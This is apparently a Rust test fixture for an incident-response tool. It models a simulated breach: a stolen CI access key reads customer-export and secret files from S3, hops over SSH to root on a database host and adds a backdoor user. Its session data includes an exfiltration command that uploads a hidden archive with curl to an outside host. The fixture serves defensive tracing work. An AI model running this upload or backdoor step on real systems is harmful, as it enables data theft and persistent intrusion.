//! What `trace` tells beside the nodes of `world`: the way in, the hops, the counts, what else could be reached, a session.

use event::{Relation, Time};
use respond::{
    report::{ProcPart, SessionPart},
    scope::Edge,
};
use trace::scope::{Affected, EntryPoint, How, Level, Means, Reach, Rule};

use crate::world::{CLOUD, entity, time};

pub fn entries() -> Vec<EntryPoint> {
    vec![EntryPoint {
        entity: entity("ip:203.0.113.66"),
        how: How::KeyUsed,
        text: "the key AKIAEXAMPLECIDEPLOY1 of user/ci-deploy used from 203.0.113.66 in account 111122223333".into(),
        time: Some(time("09:12:04")),
        from: Some(entity("ip:203.0.113.66")),
        credential: Some(entity("credential:AKIAEXAMPLECIDEPLOY1")),
        session: None,
        user: Some(entity("user:arn:aws:iam::111122223333:user/ci-deploy")),
        to: Some(entity("account:111122223333")),
        confidence: Level::Shown,
        why: "AKIAEXAMPLECIDEPLOY1 had not been used from 203.0.113.66 before".into(),
        unseen: Some("how it was taken: no log shows it being read or made".into()),
        events: vec![format!("{CLOUD}#12")],
    }]
}

pub fn hops() -> Vec<Edge> {
    use Relation as R;
    let (key, user) = ("credential:AKIAEXAMPLECIDEPLOY1", "user:arn:aws:iam::111122223333:user/ci-deploy");
    let hop = |from: &str, relation, to: &str, at: &str, event: String, confidence| Edge {
        from: entity(from),
        to: entity(to),
        relation,
        time: time(at),
        event,
        rule: Rule::SameId,
        confidence,
    };
    let cloud = |n: u32| format!("{CLOUD}#{n}");
    let own = |e: &str| e.to_owned();
    vec![
        hop("ip:203.0.113.66", R::Used, key, "09:12:04", cloud(12), Level::Shown),
        hop(key, R::LoggedIn, user, "09:12:04", cloud(12), Level::Shown),
        hop(key, R::Read, "resource:arn:aws:s3:::customer-exports/2026/02/all.csv", "09:20:00", cloud(31), Level::Shown),
        hop(key, R::Read, "resource:arn:aws:s3:::customer-exports/2026/03/all.csv", "09:21:00", cloud(32), Level::Shown),
        hop(key, R::Read, "resource:arn:aws:s3:::ops-secrets/bastion/deploy_ed25519", "09:30:00", cloud(40), Level::Shown),
        hop(key, R::Created, "credential:AKIAEXAMPLEBACKUPSV2", "09:41:00", cloud(44), Level::Shown),
        hop("ip:203.0.113.66", R::Used, "credential:SHA256:Zx7kC2dExample", "10:08:10", own("bastion-1/auth.log#201"), Level::Likely),
        hop("credential:SHA256:Zx7kC2dExample", R::LoggedIn, "session:bastion-1/sshd:4211", "10:08:10", own("bastion-1/auth.log#201"), Level::Shown),
        hop("session:bastion-1/sshd:4211", R::LoggedIn, "user:deploy@bastion-1", "10:08:10", own("bastion-1/auth.log#201"), Level::Shown),
        hop("session:bastion-1/sshd:4211", R::On, "host:bastion-1", "10:08:10", own("bastion-1/auth.log#201"), Level::Shown),
        hop("session:bastion-1/sshd:4211", R::LoggedIn, "host:db-1", "10:15:22", own("db-1/auth.log#77"), Level::Shown),
        hop("host:db-1", R::Became, "user:root@db-1", "10:17:00", own("db-1/auth.log#80"), Level::Shown),
        hop("user:root@db-1", R::Created, "user:support2@db-1", "10:19:00", own("db-1/auth.log#85"), Level::Shown),
        hop("session:bastion-1/sshd:4211", R::Connected, "host:web-1", "10:30:00", own("web-1/auth.log#9"), Level::Possible),
    ]
}

pub fn affected() -> Vec<Affected> {
    vec![Affected {
        container: entity("resource:arn:aws:s3:::customer-exports"),
        relation: Relation::Read,
        objects: 12,
        named: 2,
        bytes: Some(48_000_000),
        by: vec![entity("credential:AKIAEXAMPLECIDEPLOY1")],
        first: time("09:20:00"),
        last: time("09:21:00"),
        confidence: Level::Shown,
        events: vec![format!("{CLOUD}#31")],
    }]
}

pub fn reach() -> Vec<Reach> {
    vec![Reach {
        entity: entity("user:arn:aws:iam::111122223333:role/ci-runner"),
        from: entity("credential:AKIAEXAMPLECIDEPLOY1"),
        means: Means::RoleTaken,
        text: "AKIAEXAMPLECIDEPLOY1 has taken the role ci-runner".into(),
        last: time("08:00:00"),
        count: 12,
        confidence: Level::Possible,
        events: vec![format!("{CLOUD}#3")],
    }]
}

pub fn sessions() -> Vec<SessionPart> {
    let proc = |command: &str, user: &str, at: &str, parent, switched, n: u32| ProcPart {
        command: command.into(),
        user: Some(entity(user)),
        switched,
        start: time(at),
        parent,
        event: Some(format!("db-1/audit.log#{n}")),
    };
    let at: Time = time("10:15:22");
    vec![SessionPart {
        id: entity("session:db-1/157"),
        host: "db-1".into(),
        user: Some(entity("user:deploy@db-1")),
        from: Some(entity("ip:10.20.1.10")),
        text: "deploy logged in from 10.20.1.10 at a terminal".into(),
        start: at,
        end: Some(time("10:31:10")),
        opened: Some("db-1/auth.log#77".into()),
        procs: vec![
            proc("-bash", "user:deploy@db-1", "10:15:22", None, false, 1),
            proc("sudo /bin/bash", "user:deploy@db-1", "10:17:00", Some(0), false, 2),
            proc("/bin/bash", "user:root@db-1", "10:17:00", Some(1), true, 3),
            proc("useradd -m -s /bin/bash support2", "user:root@db-1", "10:19:00", Some(2), false, 4),
            proc("curl -sT /tmp/.x.tgz https://198.51.100.77/u", "user:root@db-1", "10:26:44", Some(2), false, 5),
        ],
        more: 0,
    }]
}
